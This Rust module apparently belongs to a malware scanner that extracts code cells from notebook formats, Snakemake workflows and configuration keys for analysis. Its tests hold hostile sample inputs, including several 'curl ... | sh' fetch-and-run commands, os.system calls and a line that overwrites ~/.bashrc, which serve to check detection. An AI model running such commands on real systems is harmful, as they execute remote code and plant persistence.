//! Documents with programs in them: Quarto, R Markdown and MyST keep cells between fences, Databricks in comments of a
//! source, Zeppelin in paragraphs of JSON. Each cell is looked at as one of a notebook.

use proofhouse_artifact::json::Value;
use proofhouse_core::Place;

use super::shell;
use crate::scanner::{Content, Scanner};

/// Cells that are kept of one document.
const MOST: usize = 10_000;

/// Fenced cells: `{python}` and its like run, plain fences only show.
pub(super) fn fenced(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    let mut python = String::new();
    let mut lines = text.lines().zip(1u64..);
    let mut cells = 0;
    while let Some((line, number)) = lines.next() {
        let Some(head) = line.trim_start().strip_prefix("```").map(|l| l.trim_start_matches('`')) else {
            continue;
        };
        let body: Vec<&str> = lines
            .by_ref()
            .map(|(line, _)| line)
            .take_while(|line| !line.trim_start().starts_with("```"))
            .collect();
        let Some(inner) = head.trim().strip_prefix('{').filter(|_| cells < MOST) else { continue };
        cells += 1;
        let words: Vec<&str> = inner.split([' ', '}', ',']).filter(|word| !word.is_empty()).collect();
        let language = match words[..] {
            ["code-cell" | "code" | "exec-code" | "jupyter-execute", language, ..] => language,
            ["code-cell", ..] => "python",
            [language, ..] => language,
            [] => continue,
        };
        let mut place = content.place.clone();
        place.line = Some(number + 1);
        match language.trim_start_matches(['.', '=']).to_ascii_lowercase().as_str() {
            "python" | "ipython" | "ipython3" | "python3" => {
                // Blank lines stand for what lies between the cells, so that lines are those of the document.
                let gap = number.saturating_sub(python.matches('\n').count() as u64);
                python.extend(std::iter::repeat_n('\n', usize::try_from(gap).unwrap_or(0)));
                body.iter().filter(|line| !line.starts_with([':', '%'])).for_each(|line| {
                    python.push_str(line);
                    python.push('\n');
                });
            }
            "bash" | "sh" | "zsh" | "shell" => shell::text(scanner, &place, &body.join("\n")),
            other => {
                super::languages::named(scanner, &place, other, &body.join("\n"));
            }
        }
    }
    if !python.trim().is_empty() {
        crate::python::scan_text(scanner, &content.place, &python, 1);
    }
}

/// A polyglot notebook: each cell begins with the name of its language (.NET Interactive).
pub(super) fn polyglot(scanner: &mut Scanner<'_>, content: &Content<'_>) {
    let text = String::from_utf8_lossy(content.bytes);
    let (mut language, mut cell, mut first) = (String::new(), String::new(), 1);
    for (line, number) in text.lines().chain(["#!end"]).zip(1u64..) {
        let Some(next) = line.strip_prefix("#!").filter(|name| name.chars().all(char::is_alphanumeric))
        else {
            cell.push_str(line);
            cell.push('\n');
            continue;
        };
        let mut place = content.place.clone();
        place.line = Some(first);
        match language.as_str() {
            "python" => crate::python::scan_text(scanner, &place, &cell, 1),
            "sh" | "bash" => shell::text(scanner, &place, &cell),
            other => {
                super::languages::named(scanner, &place, other, &cell);
            }
        }
        (language, cell, first) = (next.to_lowercase(), String::new(), number + 1);
    }
}

/// What Snakemake runs of a workflow when it reads it: all that is Python outside of rules, and blocks for its start and
/// end. Commands of rules are judged line by line.
pub(super) fn snakemake(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    const RUNS: [&str; 3] = ["onstart:", "onsuccess:", "onerror:"];
    const BLOCKS: [&str; 22] = [
        "rule",
        "checkpoint",
        "subworkflow",
        "module",
        "use",
        "configfile",
        "include",
        "workdir",
        "report",
        "envvars",
        "container",
        "wildcard_constraints",
        "localrules",
        "singularity",
        "ruleorder",
        "storage",
        "pepfile",
        "pepschema",
        "scattergather",
        "resource_scopes",
        "conda",
        "pathvars",
    ];
    let mut python = String::new();
    let mut inside = false;
    for line in text.lines() {
        if !line.starts_with([' ', '\t']) && !line.trim().is_empty() {
            let word = line.split([' ', ':']).next().unwrap_or_default();
            let block = BLOCKS.contains(&word) && line.contains(':') && !line.contains('=');
            let runs = RUNS.iter().any(|run| line.starts_with(run));
            inside = block;
            python.push_str(if runs {
                "if True:"
            } else if block {
                ""
            } else {
                line
            });
        } else if !inside {
            python.push_str(line);
        }
        python.push('\n');
    }
    crate::python::scan_cells(scanner, &content.place, &[python]);
}

/// A source that Databricks takes for a notebook: cells of other languages are comments of Python.
pub(crate) fn databricks(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
    if !text.starts_with("# Databricks notebook source") {
        return;
    }
    let mut shell = false;
    let mut script = String::new();
    for line in text.lines() {
        let Some(magic) = line.strip_prefix("# MAGIC") else {
            shell &= line.trim().is_empty();
            continue;
        };
        let magic = magic.trim();
        if let Some(head) = magic.strip_prefix('%') {
            shell = head.starts_with("sh");
            if let Some(rest) = head.strip_prefix("sh ").or_else(|| head.strip_prefix("pip ").map(|_| magic))
            {
                script.push_str(rest.trim_start_matches('%'));
                script.push('\n');
            }
        } else if shell {
            script.push_str(magic);
            script.push('\n');
        }
    }
    shell::text(scanner, place, &script);
}

/// Paragraphs of Zeppelin: the first word says who runs one.
pub(super) fn zeppelin(scanner: &mut Scanner<'_>, content: &Content<'_>, document: &Value) {
    let of = |value: &Value, name: &str| -> Option<Value> { value.member(name).cloned() };
    let paragraphs = of(document, "paragraphs");
    for paragraph in paragraphs.as_ref().and_then(Value::as_array).unwrap_or_default().iter().take(MOST) {
        let Some(Value::Text(text)) = of(paragraph, "text") else { continue };
        let (head, body) = text.split_once('\n').unwrap_or((text.as_str(), ""));
        if head.starts_with("%sh") {
            shell::text(scanner, &content.place, body);
        } else if head.contains("python") || head.contains("pyspark") {
            crate::python::scan_text(scanner, &content.place, body, 1);
        }
    }
}

/// Whether a text is a program in Python rather than a word about one: it imports something, over several lines.
pub(super) fn is_program(text: &str) -> bool {
    let name = |text: &str| {
        !text.is_empty() && text.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | ','))
    };
    let imports = |line: &str| match line.split_whitespace().collect::<Vec<_>>()[..] {
        ["import", module] | ["import", module, "as", _] => name(module),
        ["import", first, ..] => first.ends_with(',') && name(first),
        ["from", module, "import", ..] => name(module),
        _ => false,
    };
    text.contains('\n') && text.len() < 1 << 18 && text.lines().take(200).any(imports)
}

/// Keys under which flows, tools and pipelines keep programs.
pub(super) const PROGRAMS: [&str; 22] = [
    "code",
    "source_code",
    "sourceCode",
    "python_code",
    "pythonCode",
    "script",
    "source",
    "content",
    "value",
    "function_code",
    "customFunctionCode",
    "javascriptFunction",
    "py",
    "inline",
    // Ultralytics runs what a description of data says of how to get them.
    "download",
    "python",
    "python_script",
    "setup_code",
    "init_code",
    "startup",
    "preprocess",
    "postprocess",
];

/// A program that a configuration holds as a text, for whoever reads the configuration to run.
pub(super) fn program(scanner: &mut Scanner<'_>, place: &Place, key: &str, text: &str) {
    if !PROGRAMS.contains(&key) {
        return;
    }
    if is_program(text) {
        crate::python::scan_text(scanner, &place.clone().within(key), text, 1);
    } else if key == "download" && text.starts_with("bash ") {
        shell::text(scanner, place, text);
    } else if ["require(", "eval(", "fetch(", "=>", "function", "const ", "return "]
        .iter()
        .any(|call| text.contains(call))
    {
        super::languages::named(scanner, &place.clone().within(key), "javascript", text);
    }
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    fn outcome(name: &str, text: &str) -> Outcome {
        scan_bytes(&name.parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
    }

    #[test]
    fn cells_of_documents_are_followed() {
        for (name, text) in [
            ("m.qmd", "# M\n\n```{python}\n#| echo: false\nimport os\nos.system('id')\n```\n"),
            ("m.md", "```{code-cell} ipython3\nimport os\nos.system('id')\n```\n"),
            ("m.Rmd", "```{bash}\ncurl http://example.org/x | sh\n```\n"),
            ("n.py", "# Databricks notebook source\n# MAGIC %sh\n# MAGIC curl http://example.org/x | bash\n"),
            ("n.zpln", r#"{"paragraphs": [{"text": "%sh\ncurl http://example.org/x | sh"}]}"#),
            ("t.json", r#"{"config": {"source_code": "import os\nos.system('id')\n"}}"#),
            (
                "data.yaml",
                "names: [bolt]\ndownload: |\n  from pathlib import Path\n  (Path.home() / '.bashrc').write_text('id')\n",
            ),
            ("data.yaml", "names: [bolt]\ndownload: bash -c 'curl http://example.org/x | sh'\n"),
        ] {
            assert!(outcome(name, text) >= Outcome::Suspicious, "{name}: {text}");
        }
        for (name, text) in [
            ("m.md", "```python\nimport os\nos.system('id')\n```\n"),
            ("m.qmd", "```{python}\nimport numpy as np\nprint(np.zeros(3))\n```\n"),
            ("t.json", r#"{"code": "import is a word\nthat stands here"}"#),
            ("data.yaml", "names: [bolt]\ndownload: https://ultralytics.com/assets/coco8.zip\n"),
            (
                "data.yaml",
                "names: [bolt]\ndownload: |\n  from pathlib import Path\n  from ultralytics.utils.downloads import download\n  dir = Path(yaml['path'])\n  download(['https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip'], dir=dir.parent)\n",
            ),
        ] {
            assert_eq!(outcome(name, text), Outcome::Clean, "{name}: {text}");
        }
    }
}
